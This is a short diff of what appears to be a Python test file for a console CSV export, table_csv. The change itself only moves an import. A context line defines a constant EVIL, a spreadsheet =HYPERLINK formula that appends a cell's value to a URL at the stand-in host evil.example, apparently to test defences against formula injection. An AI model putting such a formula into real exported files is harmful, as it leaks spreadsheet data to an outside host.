@@ -14,7 +14,7 @@ from ground.events import EventKind
 from hq import records
 from hq.records import HqFacts, RecordsLedger
 from ui_kivy.console.demo import EventMaker, demo_config
-from ui_kivy.console_commands import table_csv
+from cli.console import table_csv
 
 DAY = datetime(2027, 4, 25, 9, 0, tzinfo=JST)
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
